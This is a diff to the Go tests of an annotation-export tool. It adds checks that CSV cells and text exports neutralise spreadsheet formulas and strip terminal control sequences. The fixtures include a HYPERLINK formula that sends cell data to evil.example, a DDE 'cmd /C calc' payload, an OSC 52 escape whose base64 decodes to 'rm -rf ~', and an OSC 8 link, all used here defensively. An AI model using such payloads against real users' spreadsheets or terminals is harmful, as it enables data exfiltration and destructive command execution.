@@ -6,7 +6,9 @@ import (
 	"encoding/json"
 	"encoding/xml"
 	"errors"
+	"io"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -317,6 +319,25 @@ func mergeCorpus() []export.Item {
 	}
 }
 
+// csvRecords reads a CSV export with encoding/csv: a map from column name
+// to cell for each row under the header.
+func csvRecords(t *testing.T, data []byte) []map[string]string {
+	t.Helper()
+	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil || len(rows) == 0 {
+		t.Fatalf("encoding/csv cannot read the export: %v", err)
+	}
+	var out []map[string]string
+	for _, r := range rows[1:] {
+		rec := map[string]string{}
+		for i, name := range rows[0] {
+			rec[name] = r[i]
+		}
+		out = append(out, rec)
+	}
+	return out
+}
+
 func TestMergeAcrossArticles(t *testing.T) {
 	corpus := mergeCorpus()
 	s := export.Summarize(corpus)
@@ -336,13 +357,9 @@ func TestMergeAcrossArticles(t *testing.T) {
 	}
 
 	// The CSV names each position's actor and claim by the merged name.
-	rows, err := csv.NewReader(bytes.NewReader(render(t, export.CSV, corpus, export.Options{}))).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, r := range rows[1:] {
-		if r[4] != "Vladimir Putin" && r[4] != "Donald Trump" || r[6] != "Peace needs talks" {
-			t.Errorf("row %s: actor %q, claim %q", r[0], r[4], r[6])
+	for _, r := range csvRecords(t, render(t, export.CSV, corpus, export.Options{})) {
+		if r["actor"] != "Vladimir Putin" && r["actor"] != "Donald Trump" || r["claim"] != "Peace needs talks" {
+			t.Errorf("row %s: actor %q, claim %q", r["statement_id"], r["actor"], r["claim"])
 		}
 	}
 
@@ -413,15 +430,15 @@ func TestPositionWithoutSpan(t *testing.T) {
 		positionNote("n-3", "a-1", "c-1", model.StanceSupport, model.Span{Start: 25, End: 25}))
 	corpus := []export.Item{item}
 
-	// The span formats show it on its claim's text.
+	// In doccano it joins the actor's mention to the claim.
 	var rec jsonlRecord
 	if err := json.Unmarshal(render(t, export.JSONL, corpus, export.Options{}), &rec); err != nil {
 		t.Fatal(err)
 	}
-	last := rec.Entities[len(rec.Entities)-1]
-	if last.Label != "support" || last.Start != claimSpan.Start || last.End != claimSpan.End {
-		t.Errorf("position entity %+v, want it on the claim %v", last, claimSpan)
+	if len(rec.Relations) != 2 || rec.Relations[1].From != 1 || rec.Relations[1].To != 2 || rec.Relations[1].Type != "support" {
+		t.Errorf("relations %+v, want Anna's mention to support the claim", rec.Relations)
 	}
+	// The other span formats show it on its claim's text.
 	files, err := export.Files(export.Brat, corpus, export.Options{})
 	if err != nil {
 		t.Fatal(err)
@@ -429,10 +446,9 @@ func TestPositionWithoutSpan(t *testing.T) {
 	if ann := string(files[3].Data); !strings.Contains(ann, "\tPosition 10 24\tthe plan works\n") || !strings.Contains(ann, "E1\tPosition:T3 Holder:T1 Target:T2\n") {
 		t.Errorf("brat:\n%s", ann)
 	}
-	// The CSV keeps its own (empty) span.
-	rows, _ := csv.NewReader(bytes.NewReader(render(t, export.CSV, corpus, export.Options{}))).ReadAll()
-	if r := rows[1]; r[8] != "25" || r[9] != "25" || r[10] != "" {
-		t.Errorf("CSV row %q", r)
+	// So does the CSV: a quote, not an empty cell.
+	if r := csvRecords(t, render(t, export.CSV, corpus, export.Options{}))[0]; r["start"] != "10" || r["end"] != "24" || r["quote"] != "the plan works" {
+		t.Errorf("CSV row %q, want [10, 24) \"the plan works\"", r)
 	}
 }
 
@@ -460,8 +476,8 @@ func TestOrphansAreLeftOutOfSpanFormats(t *testing.T) {
 	if len(rec.Entities) != 1 || rec.Annotations[1].Entity != 0 {
 		t.Errorf("JSONL entities %+v, annotations %+v: want the orphan without an entity", rec.Entities, rec.Annotations)
 	}
-	rows, _ := csv.NewReader(bytes.NewReader(render(t, export.CSV, corpus, export.Options{}))).ReadAll()
-	if len(rows) != 2 || rows[1][8] != "" || rows[1][10] != "plan" {
+	rows := csvRecords(t, render(t, export.CSV, corpus, export.Options{}))
+	if len(rows) != 1 || rows[0]["start"] != "" || rows[0]["quote"] != "plan" {
 		t.Errorf("CSV %q: want the orphan's position with no offsets and its last quote", rows)
 	}
 }
@@ -498,9 +514,8 @@ func TestAwkwardNames(t *testing.T) {
 		t.Errorf("DOT quoting:\n%s", dot)
 	}
 
-	rows, err := csv.NewReader(bytes.NewReader(render(t, export.CSV, corpus, export.Options{}))).ReadAll()
-	if err != nil || rows[1][4] != name || rows[1][6] != oneLine || rows[1][11] != item.Doc.Annotations[1].Note {
-		t.Errorf("CSV %q, %v", rows, err)
+	if r := csvRecords(t, render(t, export.CSV, corpus, export.Options{}))[0]; r["actor"] != name || r["claim"] != oneLine || r["note"] != item.Doc.Annotations[1].Note {
+		t.Errorf("CSV %q", r)
 	}
 
 	md := string(render(t, export.Markdown, corpus, export.Options{}))
@@ -557,5 +572,117 @@ func TestBratSkipsSpansOfLineBreaksOnly(t *testing.T) {
 	s := parseStandoff(t, string(files[3].Data))
 	if len(s.textBound) != 1 || len(s.lines) != 3 {
 		t.Errorf("want only Anna's mention (T, A, #):\n%s", files[3].Data)
+	}
+}
+
+// TestCSVNeutralisesFormulas: a cell that a spreadsheet would run as a
+// formula starts with a ' (OWASP's advice on CSV injection), and no cell
+// holds what could act on a terminal.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	const text = "Anna said -1 is enough. Bo agreed."
+	item := newItem("formula.txt", text,
+		[]model.Actor{{ID: "a-1", Name: `=HYPERLINK("http://evil.example/?"&A1,"Anna")`, Kind: model.KindPerson}},
+		[]model.Claim{{ID: "c-1", Text: "+cmd|' /C calc'!A0"}},
+		mention("n-1", "a-1", spanOf(text, "Anna")),
+		positionNote("n-2", "a-1", "c-1", model.StanceSupport, spanOf(text, "-1 is enough")))
+	item.Doc.Annotations[1].Note = "@SUM(1+1)\x1b]52;c;cm0gLXJmIH4=\x07"
+	item.Doc.Annotations[1].Author = "\tKim"
+	r := csvRecords(t, render(t, export.CSV, []export.Item{item}, export.Options{}))[0]
+	want := map[string]string{
+		"actor":  `'=HYPERLINK("http://evil.example/?"&A1,"Anna")`,
+		"claim":  "'+cmd|' /C calc'!A0",
+		"quote":  "'-1 is enough",
+		"note":   "'@SUM(1+1)",
+		"author": "'\tKim",
+		"title":  "formula.txt",
+	}
+	for col, w := range want {
+		if r[col] != w {
+			t.Errorf("%s = %q, want %q", col, r[col], w)
+		}
+	}
+}
+
+// TestTextExportsDropTerminalEscapes: a name, claim or note with terminal
+// escapes, control characters or a bidi override (which validate warns
+// of) reaches no text format with them, and Graphviz still draws the
+// DOT into well-formed SVG.
+func TestTextExportsDropTerminalEscapes(t *testing.T) {
+	const text = "Anna said the plan works."
+	item := newItem("hostile.txt", text,
+		[]model.Actor{{ID: "a-1", Name: "An\x1b[2J\x1b[Hna\u202e", Kind: model.KindPerson, Aliases: []string{"A\x01nna"}}},
+		[]model.Claim{{ID: "c-1", Text: "The plan\x01 works\u009b31m"}},
+		mention("n-1", "a-1", spanOf(text, "Anna")),
+		claimNote("n-2", "c-1", "a-1", spanOf(text, "the plan works")),
+		positionNote("n-3", "a-1", "c-1", model.StanceSupport, spanOf(text, "the plan works")))
+	item.Doc.Annotations[2].Note = "see\x1b]8;;http://evil.example\x1b\\ this\x07"
+	corpus := []export.Item{item}
+	for _, f := range []export.Format{export.CSV, export.Markdown, export.DOT, export.GraphML} {
+		out := string(render(t, f, corpus, export.Options{}))
+		for i, r := range out {
+			if r < 0x20 && r != '\n' && r != '\r' && r != '\t' || r >= 0x7f && r <= 0x9f || model.IsBidiControl(r) {
+				t.Errorf("%s holds %U at byte %d:\n%q", f, r, i, out)
+				break
+			}
+		}
+		if !strings.Contains(out, "Anna") || !strings.Contains(out, "The plan works") {
+			t.Errorf("%s lost the names themselves:\n%s", f, out)
+		}
+	}
+	files, err := export.Files(export.Brat, corpus, export.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ann := string(files[3].Data); strings.ContainsAny(ann, "\x1b\x01\u202e\u009b\a") {
+		t.Errorf("brat notes hold controls:\n%q", ann)
+	}
+
+	dot, err := exec.LookPath("dot")
+	if err != nil {
+		t.Skip("Graphviz (dot) is not installed")
+	}
+	cmd := exec.Command(dot, "-Tsvg")
+	cmd.Stdin = bytes.NewReader(render(t, export.DOT, corpus, export.Options{}))
+	svg, err := cmd.Output()
+	if err != nil {
+		t.Fatalf("dot -Tsvg: %v", err)
+	}
+	dec := xml.NewDecoder(bytes.NewReader(svg))
+	for {
+		if _, err := dec.Token(); err == io.EOF {
+			break
+		} else if err != nil {
+			t.Fatalf("the SVG that dot draws is not well-formed XML: %v", err)
+		}
+	}
+}
+
+// TestCSVNamesTheArticle: each row says which article it is from — its
+// title, date, publication and address as well as its path — so that a
+// corpus's rows can be told apart and cited.
+func TestCSVNamesTheArticle(t *testing.T) {
+	const text = "Anna said the plan works."
+	item := newItem("news/plan.txt", text,
+		[]model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}},
+		[]model.Claim{{ID: "c-1", Text: "The plan works"}},
+		positionNote("n-1", "a-1", "c-1", model.StanceSupport, spanOf(text, "the plan works")))
+	item.Article.Meta = model.Meta{Title: "The plan", Date: "2025-03-01", Source: "Daily Planet", URL: "https://example.org/plan"}
+	item.Doc.Article.Title, item.Doc.Article.Date = "", ""
+	// A web page's annotations record the address it was fetched from.
+	web := newItem("https://example.org/web", text,
+		[]model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}},
+		[]model.Claim{{ID: "c-1", Text: "The plan works"}},
+		positionNote("n-2", "a-1", "c-1", model.StanceSupport, spanOf(text, "the plan works")))
+	web.Doc.Article.URL = "https://example.org/web"
+	rows := csvRecords(t, render(t, export.CSV, []export.Item{item, web}, export.Options{}))
+	for i, want := range []map[string]string{
+		{"title": "The plan", "date": "2025-03-01", "publication": "Daily Planet", "url": "https://example.org/plan", "source": "news/plan.txt"},
+		{"title": "https://example.org/web", "publication": "", "url": "https://example.org/web"},
+	} {
+		for col, w := range want {
+			if rows[i][col] != w {
+				t.Errorf("row %d: %s = %q, want %q", i+1, col, rows[i][col], w)
+			}
+		}
 	}
 }
